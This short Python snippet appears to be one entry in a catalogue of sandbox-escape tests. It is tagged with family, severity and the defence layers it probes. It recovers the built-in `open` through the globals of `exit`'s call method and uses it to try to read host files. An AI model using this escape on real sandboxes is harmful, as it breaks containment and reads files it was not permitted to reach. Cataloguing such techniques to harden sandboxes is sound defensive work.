# technique: the object that ends the program is Python code with globals of its own
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    call = type(exit).__call__
    return open_of(call.__globals__["__builtins__"])

read_host(trick)
